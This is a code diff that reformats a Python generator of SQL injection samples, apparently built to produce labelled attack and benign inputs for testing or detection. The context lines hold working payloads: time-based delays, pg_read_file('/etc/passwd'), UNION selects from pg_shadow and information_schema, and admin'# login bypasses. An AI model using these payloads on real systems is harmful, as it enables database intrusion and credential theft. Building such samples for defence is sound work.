@@ -67,7 +67,16 @@ TEMPLATES: dict[str, tuple[str, ...]] = {
 """Honest statements of programs, by the context of the hole in them."""
 
 BENIGN_VALUES: dict[str, tuple[str, ...]] = {
-    "quoted": ("Anna", "O''Neill", "new", "Garden & Home", "anna@example.org", "50% off", "rock -n- roll", "x or y"),
+    "quoted": (
+        "Anna",
+        "O''Neill",
+        "new",
+        "Garden & Home",
+        "anna@example.org",
+        "50% off",
+        "rock -n- roll",
+        "x or y",
+    ),
     "like": ("chair", "a_b", "100", "and"),
     "number": ("1", "42", "-7", "3.5", "100000"),
     "list": ("4", "17"),
@@ -106,14 +115,21 @@ class _Maker:
         return self.rng.choice(
             [f"{n}={n}", f"{n} = {n}", f"'{w}'='{w}'", f"{m}>{n}", f"{n}<{m}", f"({n}={n})", f"'{w}' LIKE '{w}'",
              f"{n} IN ({n},{m})", f"{n} BETWEEN 0 AND {m}", f"NOT {n}={m}", f"'{w}'||'x'='{w}x'",
-             f"length('{w}')={len(w)}", f"ascii('a')=97", f"{n}+1={int(n) + 1}", f"CAST('{n}' AS int)={n}",
-             f"'{w}'<>'{w}x'", f"{n} IS NOT NULL", f"(SELECT {n})={n}", f"EXISTS(SELECT {n})", f"upper('{w}')='{w.upper()}'"]
+             f"length('{w}')={len(w)}", "ascii('a')=97", f"{n}+1={int(n) + 1}", f"CAST('{n}' AS int)={n}",
+             f"'{w}'<>'{w}x'", f"{n} IS NOT NULL", f"(SELECT {n})={n}", f"EXISTS(SELECT {n})",
+             f"upper('{w}')='{w.upper()}'"]
         )  # fmt: skip
 
     def false(self) -> str:
         n, w = self.number(), self.word()
         return self.rng.choice(
-            [f"{n}={int(n) + 1}", f"'{w}'='{w}x'", f"{n}>{int(n) + 3}", f"NOT {n}={n}", f"(SELECT {n})={int(n) + 1}"]
+            [
+                f"{n}={int(n) + 1}",
+                f"'{w}'='{w}x'",
+                f"{n}>{int(n) + 3}",
+                f"NOT {n}={n}",
+                f"(SELECT {n})={int(n) + 1}",
+            ]
         )
 
     def secret(self) -> str:
@@ -165,11 +181,17 @@ class _Maker:
         yield "time", f"OR pg_sleep({n}) IS NULL"
         yield "time", f"AND sleep({n})"
         yield "time", f"AND benchmark(5000000,md5('{self.word()}'))"
-        yield "time", f"AND {n}=(CASE WHEN ({n}={n}) THEN (SELECT count(*) FROM generate_series(1,5000000)) ELSE {n} END)"
+        yield (
+            "time",
+            f"AND {n}=(CASE WHEN ({n}={n}) THEN (SELECT count(*) FROM generate_series(1,5000000)) ELSE {n} END)",
+        )
         yield "time", f"AND {n}=dbms_pipe.receive_message('{self.word()}',5)"
-        yield "time", (
-            "AND 1=(SELECT count(*) FROM information_schema.columns a, information_schema.columns b, "
-            "information_schema.columns c)"
+        yield (
+            "time",
+            (
+                "AND 1=(SELECT count(*) FROM information_schema.columns a, information_schema.columns b, "
+                "information_schema.columns c)"
+            ),
         )
         yield "time", "AND 'a'=regexp_substr(repeat('a',500000000),'b')"
         yield "file", "AND (SELECT pg_read_file('/etc/passwd')) IS NOT NULL"
@@ -186,7 +208,10 @@ class _Maker:
         yield "union", f"{word} SELECT login,{secret} FROM {table}"
         yield "union", f"{word} SELECT NULL,login||'~'||{secret} FROM {table}"
         yield "union", f"{word} SELECT table_name,NULL FROM information_schema.tables"
-        yield "union", f"{word} SELECT column_name,table_name FROM information_schema.columns WHERE table_name='{table}'"
+        yield (
+            "union",
+            f"{word} SELECT column_name,table_name FROM information_schema.columns WHERE table_name='{table}'",
+        )
         yield "union", f"{word} SELECT usename,passwd FROM pg_shadow"
         yield "union", f"{word} SELECT version(),NULL"
         yield "union", f"{word} SELECT current_user,current_database()"
@@ -241,7 +266,11 @@ def payloads(rng: random.Random) -> Iterator[tuple[str, str, str]]:
     n, secret, table = make.number(), make.secret(), make.table()
     for query in (f"(SELECT {secret} FROM {table} LIMIT 1)", "(SELECT version())"):
         yield "concatenation", "quoted", f"{rng.choice(values)}'||{query}||'"
-        yield "error", "number", f"CAST({query} AS int)" if "version" in query else f"1 AND 1=CAST({query} AS int)"
+        yield (
+            "error",
+            "number",
+            f"CAST({query} AS int)" if "version" in query else f"1 AND 1=CAST({query} AS int)",
+        )
     yield "comment", "quoted", f"admin'{make.tail().strip()}"
     yield "comment", "quoted", "admin'/*"
     yield "comment", "quoted", "admin'#"
@@ -289,7 +318,7 @@ def attacks(count: int, seed: int) -> list[Attack]:
 def honest(count: int, seed: int) -> list[str]:
     """Honest statements of the same programs."""
     rng = random.Random(seed)
-    found = []
+    found: list[str] = []
     while len(found) < count:
         context = rng.choice(list(TEMPLATES))
         template = rng.choice(TEMPLATES[context])
